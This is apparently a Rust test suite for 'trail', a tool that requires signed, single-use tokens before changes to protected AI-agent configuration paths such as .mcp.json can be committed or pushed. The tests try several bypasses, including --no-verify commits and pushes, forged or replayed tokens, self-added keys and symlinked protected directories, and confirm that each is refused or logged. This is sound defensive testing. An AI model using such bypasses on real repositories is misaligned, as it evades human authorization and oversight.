    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    // The authorizer runs exactly the command `trail policy check` prints.
    let check = env.trail(&repo, ["policy", "check", "--json"]);
    check.assert_code(1);
    let command = check.json_lines()[0]["authorize"].as_str().expect("a command").to_owned();
    let mut shell = env.command("bash", &repo);
    shell.args(["-c", &command]);
    let minted = run(shell, PROCESS_TIMEOUT);
    minted.assert_code(0);
    let token = minted.stdout_str().trim().to_owned();
    let before = head(&env, &repo);
    let out = commit(&env, &repo, Some(&token), "add the docs MCP server");
    out.assert_code(0).assert_stderr_has("authorized by token");
    assert_authorized(&env, &repo, &before, &token);
}

#[test]
fn a_valid_token_passes_through_trail_commit() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let token = authorize(&env, &repo, &["--path", ".mcp.json", "--staged"]);
    let before = head(&env, &repo);
    let out = trail_now(&env, &repo, &["commit", "--token", &token, "-m", "add docs"]);
    out.assert_code(0).assert_stderr_has("authorized by token");
    assert_authorized(&env, &repo, &before, &token);
}

#[test]
fn a_valid_token_passes_through_trail_note() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let token = authorize(&env, &repo, &["--path", ".mcp.json", "--staged"]);
    env.trail_ok(&repo, ["note", "--token", &token]);
    env.trail_ok(&repo, ["note"]).assert_stderr_has("authorization token");
    let before = head(&env, &repo);
    let out = commit(&env, &repo, None, "add docs");
    out.assert_code(0).assert_stderr_has("authorized by token");
    assert_authorized(&env, &repo, &before, &token);
    // The note was used up.
    env.trail_ok(&repo, ["note"]).assert_stderr_has("no note is waiting");
    // A malformed token is refused by `trail note` itself.
    env.trail(&repo, ["note", "--token", "trail1.nope"])
        .assert_code(2)
        .assert_stderr_has("--token");
}

// ---------------------------------------------------------------------------
// --no-verify: post-commit, pre-push, the server, strict
// ---------------------------------------------------------------------------

#[test]
fn the_server_accepts_authorized_pushes_and_refuses_no_verify_commits() {
    let env = TestEnv::new();
    let repo = with_mcp_json(&env);
    let remote = bare_server(&env, &repo);
    // Everything so far is authorized (or the bootstrap): accepted.
    let push = env.git(&repo, ["push", "-q", "origin", "main"]);
    push.assert_code(0);
    assert_eq!(env.git_ok(&remote, ["rev-parse", "main"]), head(&env, &repo));
    let accepted = head(&env, &repo);

    // An unauthorized change committed with --no-verify: post-commit records it.
    write(&repo, ".mcp.json", MCP_JSON_2);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let made = commit_no_verify(&env, &repo, "sneak a server in");
    made.assert_code(0).assert_stderr_has("POLICY VIOLATION");
    let sneaky = head(&env, &repo);
    let violations = records(&env, &repo, "policy.violation");
    assert_eq!(violations.len(), 1, "{violations:#?}");
    assert_eq!(violations[0]["commit"], sneaky.as_str());
    assert_eq!(violations[0]["paths"][0]["path"], ".mcp.json");
    assert_eq!(violations[0]["detail"]["check"], "no token");

    // pre-push refuses to push it.
    let push = env.git(&repo, ["push", "-q", "origin", "main"]);
    assert_ne!(push.status, Some(0), "pre-push must refuse:\n{push}");
    push.assert_no_panic()
        .assert_stderr_has("push refused")
        .assert_stderr_has("carries no authorization token");
    assert_eq!(env.git_ok(&remote, ["rev-parse", "main"]), accepted, "the server did not move");

    // Skipping pre-push: the server refuses it.
    let push = env.git(&repo, ["push", "-q", "--no-verify", "origin", "main"]);
    assert_ne!(push.status, Some(0), "the server must refuse:\n{push}");
    push.assert_no_panic()
        .assert_stderr_has("pre-receive hook declined")
        .assert_stderr_has("carries no authorization token");
    assert_eq!(env.git_ok(&remote, ["rev-parse", "main"]), accepted, "the server did not move");
    let objects = env.git(&remote, ["cat-file", "-e", &sneaky]);
    assert_ne!(objects.status, Some(0), "the refused commit is not in the server");

    // A --no-verify commit with a forged trailer fares no better.
    env.git_ok(&repo, ["reset", "-q", "--hard", &accepted]);
    write(&repo, ".mcp.json", MCP_JSON_2);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let token = authorize(&env, &repo, &["--path", ".mcp.json", "--staged"]);
    let (payload, signature) = split_token(&token);
    let altered =
        join_token(&payload.replacen("approved by ada", "approved by adb", 1), &signature);
    commit_with_trailer(&env, &repo, "forged", &altered).assert_stderr_has("POLICY VIOLATION");
    assert_server_refuses(&env, &repo, &remote, &accepted, &refused_check("signature"));

    // Nor does a key the pushed commit adds itself: the parent's policy counts.
    env.git_ok(&repo, ["reset", "-q", "--hard", &accepted]);
    env.trail_ok(&repo, ["keygen", "--name", "bob", "--add"]);
    write(&repo, ".mcp.json", MCP_JSON_2);
    env.git_ok(&repo, ["add", "trail.toml", ".mcp.json"]);
    let bob = env.trail_ok(&repo, ["authorize", "--key", "bob", "--path", "**", "--staged"]);
    let bob = bob.stdout_str().trim().to_owned();
    commit_with_trailer(&env, &repo, "bob names himself", &bob)
        .assert_stderr_has("POLICY VIOLATION");
    assert_server_refuses(&env, &repo, &remote, &accepted, &refused_check("known key"));

    // Nor one single-use token for two commits of one push.
    env.git_ok(&repo, ["reset", "-q", "--hard", &accepted]);
    let once = authorize(&env, &repo, &["--path", ".mcp.json"]);
    for (content, subject) in [(MCP_JSON_2, "once"), (MCP_JSON, "twice")] {
        write(&repo, ".mcp.json", content);
        env.git_ok(&repo, ["add", ".mcp.json"]);
        commit_with_trailer(&env, &repo, subject, &once);
    }
    assert_server_refuses(&env, &repo, &remote, &accepted, &refused_check("single use"));

    // The change, authorized through pre-commit: pushed, and the server keeps it.
    env.git_ok(&repo, ["reset", "-q", "--hard", &accepted]);
    write(&repo, ".mcp.json", MCP_JSON_2);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    commit(&env, &repo, Some(&token), "the docs server, version 2").assert_code(0);
    env.git(&repo, ["push", "-q", "origin", "main"]).assert_code(0);
    assert_eq!(env.git_ok(&remote, ["rev-parse", "main"]), head(&env, &repo));
}

#[test]
fn an_authorized_change_inside_a_protected_directory_can_be_pushed() {
    // The example of docs/tokens.md §9: a script under `scripts/mcp/`
    // (protected by the default glob `**/mcp/**`), authorized with exactly the
    // command `trail policy check` prints, then pushed (docs/protection.md,
    // "The authorizer's workflow", step 5: "The push passes pre-push and the
    // server's pre-receive").
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    let remote = bare_server(&env, &repo);
    env.git(&repo, ["push", "-q", "origin", "main"]).assert_code(0);
    write(&repo, "scripts/mcp/docs.sh", "#!/bin/sh\nexec docs-server\n");
    env.git_ok(&repo, ["add", "scripts/mcp/docs.sh"]);
    let check = env.trail(&repo, ["policy", "check", "--json"]);
    check.assert_code(1);
    let command = check.json_lines()[0]["authorize"].as_str().expect("a command").to_owned();
    let mut shell = env.command("bash", &repo);
    shell.args(["-c", &command]);
    let minted = run(shell, PROCESS_TIMEOUT);
    minted.assert_code(0);
    let token = minted.stdout_str().trim().to_owned();
    let before = head(&env, &repo);
    commit(&env, &repo, Some(&token), "the docs MCP script").assert_code(0);
    assert_authorized(&env, &repo, &before, &token);
    // What the commit holds besides the approved script.
    let files = env.git_ok(&repo, ["show", "--name-only", "--format=", "HEAD"]);
    let push = env.git(&repo, ["push", "-q", "origin", "main"]);
    assert_eq!(
        push.status,
        Some(0),
        "an authorized commit must pass pre-push; the commit holds:\n{files}\n{push}"
    );
    assert_eq!(env.git_ok(&remote, ["rev-parse", "main"]), head(&env, &repo));
}

/// `git commit --no-verify` of what is staged, with `token` as the message's
/// `Trail-Authorization:` trailer (what a person bypassing pre-commit writes).
fn commit_with_trailer(env: &TestEnv, repo: &Path, subject: &str, token: &str) -> Output {
    let message = format!("{subject}\n\nTrail-Authorization: {token}\n");
    let out = git_with_token(env, repo, None, &["commit", "-q", "--no-verify", "-m", &message]);
    out.assert_code(0);
    out
}

/// `git push --no-verify`: the server's pre-receive refuses, naming `needle`,
/// and its branch stays at `accepted`.
#[track_caller]
fn assert_server_refuses(env: &TestEnv, repo: &Path, remote: &Path, accepted: &str, needle: &str) {
    let push = env.git(repo, ["push", "-q", "--no-verify", "origin", "main"]);
    assert_ne!(push.status, Some(0), "the server must refuse:\n{push}");
    push.assert_no_panic().assert_stderr_has("pre-receive hook declined").assert_stderr_has(needle);
    assert_eq!(env.git_ok(remote, ["rev-parse", "main"]), accepted, "the server did not move");
}

#[test]
fn strict_mode_vetoes_no_verify_commits() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    let policy = std::fs::read_to_string(repo.join("trail.toml")).expect("read trail.toml");
    assert!(policy.contains("[protect]\n"), "{policy}");
    write(&repo, "trail.toml", &policy.replacen("[protect]\n", "[protect]\nstrict = true\n", 1));
    env.git_ok(&repo, ["add", "trail.toml"]);
    commit_authorized(&env, &repo, "strict protection");
    assert!(
        Protect::from_toml(&env.git_ok(&repo, ["show", "HEAD:trail.toml"]))
            .expect("valid")
            .strict()
    );
    env.trail_ok(&repo, ["hooks", "install"]).assert_stderr_has("reference-transaction");
    assert!(repo.join(".git/hooks/reference-transaction").exists());

    // An unauthorized protected change with --no-verify: the branch stays.
    let before = head(&env, &repo);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let out = commit_no_verify(&env, &repo, "sneak a server in");
    assert_ne!(out.status, Some(0), "the ref update must be vetoed:\n{out}");
    out.assert_no_panic().assert_stderr_has("carries no authorization token");
    assert_eq!(env.git_ok(&repo, ["rev-parse", "refs/heads/main"]), before, "main did not move");
    assert_eq!(head(&env, &repo), before);

    // The same change, authorized, goes through.
    let token = commit_authorized(&env, &repo, "add the docs server");
    assert_authorized(&env, &repo, &before, &token);
    assert_eq!(env.git_ok(&repo, ["rev-parse", "refs/heads/main"]), head(&env, &repo));
    // Ordinary commits are unaffected.
    write(&repo, "README.md", "more\n");
    env.git_ok(&repo, ["add", "README.md"]);
    commit_no_verify(&env, &repo, "an unprotected change").assert_code(0);
}

// ---------------------------------------------------------------------------
// The private key never leaks
// ---------------------------------------------------------------------------

/// Every file below `dir`, recursively (symlinks not followed).
fn files_below(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        let Ok(kind) = entry.file_type() else { continue };
        if kind.is_dir() {
            files_below(&entry.path(), out);
        } else if kind.is_file() {
            out.push(entry.path());
        }
    }
}

#[test]
fn the_private_key_never_appears_in_journal_history_or_messages() {
    let env = TestEnv::new();
    let mut outputs: Vec<(String, String)> = Vec::new();
    let keep = |outputs: &mut Vec<(String, String)>, what: &str, out: &Output| {
        outputs.push((format!("{what} (stderr)"), out.stderr.clone()));
    };
    let (repo, bootstrap) = bootstrapped_named(&env, "app");
    keep(&mut outputs, "bootstrap", &bootstrap);
    let remote = bare_server(&env, &repo);

    // policy check, authorize, refusals, an authorized commit through each route.
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    keep(&mut outputs, "policy check", env.trail(&repo, ["policy", "check"]).assert_code(1));
    let minted = env.trail_ok(&repo, ["authorize", "--path", ".mcp.json", "--staged"]);
    keep(&mut outputs, "authorize", &minted);
    let token = minted.stdout_str().trim().to_owned();
    keep(&mut outputs, "no token", commit(&env, &repo, None, "no token").assert_code(1));
    let (payload, signature) = split_token(&token);
    let altered = join_token(&payload.replacen("\"v\":1", "\"v\":1 ", 1), &signature);
    keep(&mut outputs, "altered", commit(&env, &repo, Some(&altered), "x").assert_code(1));
    keep(&mut outputs, "env", commit(&env, &repo, Some(&token), "env").assert_code(0));

    write(&repo, ".mcp.json", MCP_JSON_2);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    keep(&mut outputs, "used", commit(&env, &repo, Some(&token), "again").assert_code(1));
    let token = authorize(&env, &repo, &["--path", ".mcp.json", "--staged"]);
    let out = trail_now(&env, &repo, &["commit", "--token", &token, "-m", "x"]);
    keep(&mut outputs, "trail commit", out.assert_code(0));
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let token = authorize(&env, &repo, &["--path", ".mcp.json", "--staged"]);
    keep(&mut outputs, "note", &env.trail_ok(&repo, ["note", "--token", &token]));
    keep(&mut outputs, "note commit", commit(&env, &repo, None, "note").assert_code(0));
    keep(&mut outputs, "push", env.git(&repo, ["push", "-q", "origin", "main"]).assert_code(0));

    // A violation, refused by pre-push and by the server.
    write(&repo, ".mcp.json", MCP_JSON_2);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    keep(&mut outputs, "violation", commit_no_verify(&env, &repo, "sneaky").assert_code(0));
    let push = env.git(&repo, ["push", "-q", "origin", "main"]);
    assert_ne!(push.status, Some(0), "{push}");
    keep(&mut outputs, "pre-push", &push);
    let push = env.git(&repo, ["push", "-q", "--no-verify", "origin", "main"]);
    assert_ne!(push.status, Some(0), "{push}");
    keep(&mut outputs, "server", &push);

    // What the journal, the history and the tools show.
    for (what, args) in [
        ("export", vec!["export"]),
        ("log --json", vec!["log", "--json"]),
        ("log", vec!["log"]),
        ("verify", vec!["verify"]),
    ] {
        let out = env.trail_ok(&repo, args);
        outputs.push((format!("trail {what}"), out.stdout_str()));
        keep(&mut outputs, what, &out);
    }
    let history = env.git_ok(&repo, ["log", "--all", "-p", "--format=%H%n%B"]);
    outputs.push(("git log --all -p".into(), history));
    outputs.push(("server git log".into(), env.git_ok(&remote, ["log", "--all", "--format=%B"])));

    let text = std::fs::read_to_string(env.config_home.join("trail/keys/ada.key"))
        .expect("read ada's key file");
    let secret_b64 = text.lines().nth(1).expect("the secret line").trim().to_owned();
    let secret = b64url_decode(&secret_b64);
    assert_eq!(secret.len(), 32);
    let renderings = [
        secret_b64.clone(),
        hex::encode(&secret),
        hex::encode_upper(&secret),
        b64url_encode(&secret).replace('-', "+").replace('_', "/"),
        // A prefix long enough to be unmistakable.
        secret_b64[..16].to_owned(),
    ];
    assert!(outputs.len() > 15);
    for (what, shown) in &outputs {
        for rendering in &renderings {
            assert!(!shown.contains(rendering.as_str()), "{what} shows the private key");
        }
    }
    // Nor any file of the repository, its journal, or the server.
    let mut files = Vec::new();
    files_below(&repo, &mut files);
    files_below(&remote, &mut files);
    assert!(files.len() > 20);
    for file in files {
        let bytes = std::fs::read(&file).expect("read a repository file");
        for rendering in &renderings {
            assert!(
                !bytes.windows(rendering.len()).any(|w| w == rendering.as_bytes()),
                "{} holds the private key",
                file.display()
            );
        }
        assert!(
            !bytes.windows(secret.len()).any(|w| w == secret.as_slice()),
            "{} holds the raw private key",
            file.display()
        );
    }
}

#[test]
fn a_symlink_standing_for_a_protected_directory_is_protected() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    write(&repo, "tools/run.sh", "echo run\n");
    env.git_ok(&repo, ["add", "tools/run.sh"]);
    commit(&env, &repo, None, "tools").assert_code(0);
    // `.continue/**` is protected: a link named `.continue` puts tools/ there.
    std::os::unix::fs::symlink("tools", repo.join(".continue")).expect("symlink");
    env.git_ok(&repo, ["add", ".continue"]);
    let out = assert_refused(&env, &repo, None, "carries no authorization token");
    out.assert_stderr_has(".continue");
    env.git_ok(&repo, ["rm", "-q", "--cached", ".continue"]);
    std::fs::remove_file(repo.join(".continue")).expect("rm");
    // So is a link that makes a directory called mcp.
    std::fs::create_dir_all(repo.join("lib")).expect("mkdir");
    std::os::unix::fs::symlink("../tools", repo.join("lib/mcp")).expect("symlink");
    env.git_ok(&repo, ["add", "lib/mcp"]);
    let out = assert_refused(&env, &repo, None, "carries no authorization token");
    out.assert_stderr_has("lib/mcp");
}

#[test]
fn a_no_verify_commit_that_replays_a_used_token_is_a_violation() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    let token = authorize(&env, &repo, &["--path", ".mcp.json"]);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    commit(&env, &repo, Some(&token), "first use").assert_code(0);
    assert_eq!(records(&env, &repo, "auth.used").len(), 1);
    // The same token, written by hand into a commit that skips pre-commit.
    write(&repo, ".mcp.json", MCP_JSON_2);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let trailer = format!("Trail-Authorization: {token}");
    let out = git_with_token(
        &env,
        &repo,
        None,
        &["commit", "-q", "--no-verify", "-m", "replay", "-m", &trailer],
    );
    out.assert_code(0).assert_stderr_has("POLICY VIOLATION");
    let violations = records(&env, &repo, "policy.violation");
    assert_eq!(violations.len(), 1, "{violations:#?}");
    assert!(detail_reason(&violations[0]).contains("was used before"), "{violations:#?}");
    // A fresh token in such a commit's trailer is a use like any other.
    let fresh = authorize(&env, &repo, &["--path", ".mcp.json"]);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    let trailer = format!("Trail-Authorization: {fresh}");
    git_with_token(
        &env,
        &repo,
        None,
        &["commit", "-q", "--no-verify", "-m", "fresh", "-m", &trailer],
    )
    .assert_code(0);
    assert_eq!(records(&env, &repo, "auth.used").len(), 2);
    assert_eq!(records(&env, &repo, "policy.violation").len(), 1);
}
